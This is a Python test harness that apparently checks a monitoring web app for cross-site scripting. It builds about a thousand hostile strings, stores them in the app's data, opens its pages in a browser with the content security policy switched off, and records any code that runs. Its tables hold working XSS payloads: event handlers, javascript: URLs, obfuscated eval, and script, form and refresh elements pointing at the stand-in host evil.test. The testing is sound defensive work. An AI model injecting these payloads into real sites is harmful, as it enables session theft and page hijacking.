"""Try a thousand hostile texts in every field that a stranger can fill, on the pages that show them, in a real browser whose policy
is switched off: does anything of it run?

    python -m bench.payloads [--count 1000]

The texts are put together of ways out of where a text may stand (an attribute, an element, a comment), of elements and attributes
that run something, and of ways to write them. A dialog, a script that is not ours or a request to another host counts as executed.
First a page with such a text in it, unescaped, shows that the alarm rings.
"""

from __future__ import annotations

import argparse
import itertools
import random
import tempfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

from playwright.sync_api import Browser, Dialog, Page, Request, sync_playwright

from monitor.config.settings import WebSettings
from monitor.store.db import Database
from monitor.web.app import create_app
from tests.fakes.stores import lay_out
from tests.web import test_web
from tests.web.test_browser import CHROMIUM, serving

WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "]]>",
    "</mark>",
    "\\",
    "\x00>",
    "`>",
)
ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}></object>",
    "<a href=javascript:{} autofocus>x</a>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={} src>'>",
    "<style onload={}>*{{}}</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<img src=https://evil.test/x.png>",
    "<base href=https://evil.test/>",
    "<script src=https://evil.test/x.js></script>",
    " onmouseover={} autofocus onfocus={} x=",
    "javascript:{}",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action=https://evil.test/><button>Confirm</button></form>",
)
CODE = ("alert(1)", "alert`1`", "self['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "top.alert(1)")
WRITTEN: Sequence[Callable[[str], str]] = (
    str,
    str.swapcase,
    lambda text: text.replace("<", "<\n"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "&lt;"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("script", "scr\tipt"),
    lambda text: text + "\u202e",
    lambda text: "<!--" + text,
)


def main() -> None:
    """Make the store, serve it, open its pages, print what ran."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=1000)
    count = parser.parse_args().count
    payloads = _payloads(count)
    with tempfile.TemporaryDirectory() as folder, sync_playwright() as playwright:
        database = _poisoned(f"sqlite:///{Path(folder) / 'monitor.db'}", payloads)
        app = create_app(database, WebSettings(), clock=lambda: test_web.NOW, health=lambda: test_web.WELL)
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        with serving(app) as url:
            assert _opened(browser, "about:blank", ["data:text/html,<img src=x onerror=alert(1)>"]), (
                "the alarm does not ring"
            )
            paths = list(_paths(count))
            ran = _opened(browser, url, [url + each for each in paths])
        browser.close()
        database.close()
    print(f"{len(payloads)} texts, {len(paths)} pages, policy off: {len(ran)} executions")
    for each in ran[:20]:
        print(f"  {each}")


def _payloads(count: int) -> tuple[str, ...]:
    """Different ones, the tests' own first, so many of each element as of any other."""
    dice = random.Random(15)
    made = dict.fromkeys(test_web.PAYLOADS)
    for element in itertools.cycle(ELEMENTS):
        if len(made) >= count:
            break
        text = element.replace("{{", "{").replace("}}", "}").replace("{}", dice.choice(CODE))
        made[dice.choice(WRITTEN)(dice.choice(WAYS_OUT) + text)] = None
    return tuple(made)[:count]


def _poisoned(url: str, payloads: tuple[str, ...]) -> Database:
    lay_out(url)
    database = Database(url)
    test_web.PAYLOADS = payloads
    test_web.poison(database)
    return database


def _paths(count: int) -> Iterator[str]:
    yield from (
        "/",
        "/status",
        "/overview",
        "/views",
        "/stories",
        "/feeds",
        "/channels",
        "/alerts",
        "/topics",
        "/evaluate",
        "/near",
    )
    yield from (f"/?state=all&page={number}" for number in range(1, count // 25))
    for number in range(1, count * 2 + 1, 2):  # the even ones are copies of the odd
        yield from (f"/articles/{number}", f"/stories/{number}", f"/?state=all&story={number}")


def _opened(browser: Browser, home: str, addresses: Sequence[str]) -> list[str]:
    """What ran while these pages were open."""
    ran: list[str] = []
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    page.on("dialog", lambda dialog: _noted(dialog, page, ran))
    page.on("request", lambda request: _asked(request, home, page, ran))
    for address in addresses:
        page.goto(address, wait_until="load")
        foreign = page.evaluate("[...document.scripts].filter((each) => !each.src.startsWith(location.origin)).length")
        ran += [f"{address}: {foreign} scripts that are not ours"] if foreign else []
    page.wait_for_timeout(500)
    context.close()
    return ran


def _noted(dialog: Dialog, page: Page, ran: list[str]) -> None:
    ran.append(f"{page.url}: dialog {dialog.message}")
    dialog.dismiss()


def _asked(request: Request, home: str, page: Page, ran: list[Any]) -> None:
    if home != "about:blank" and not request.url.startswith((home, "data:")):
        ran.append(f"{page.url}: asks {request.url}")


if __name__ == "__main__":
    main()
